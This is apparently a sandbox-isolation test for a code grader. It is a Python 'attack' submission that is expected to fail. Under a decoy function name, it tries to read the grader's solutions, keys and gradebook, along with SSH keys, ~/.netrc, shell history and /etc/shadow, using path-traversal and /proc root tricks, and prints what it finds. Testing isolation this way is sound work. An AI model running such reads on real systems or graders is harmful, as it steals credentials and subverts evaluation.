# /// attack
# row = 13
# expect = ["FAILED"]
# proof = "looked at"
# invariant = "nothing of the judge's files can be read"
# ///
"""Reads solutions, checks, other submissions, keys and the gradebook at the very paths where they lie, and prints them."""

import os

PATHS = "@PATHS@".split(":")


def lstm_cell(*arguments):
    got = 0
    for path in [*PATHS, "~/.ssh/id_rsa", "~/.netrc", "~/.bash_history", "/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa"]:
        for name in (path, os.path.join(path, "../../" + os.path.basename(path)), "/proc/1/root" + path, "/proc/self/root/../.." + path):
            try:
                with open(os.path.expanduser(name), "rb") as file:
                    print(name, file.read(500))
                    got += 1
            except OSError:
                continue
    print(f"looked at {len(PATHS)} paths, read {got}")
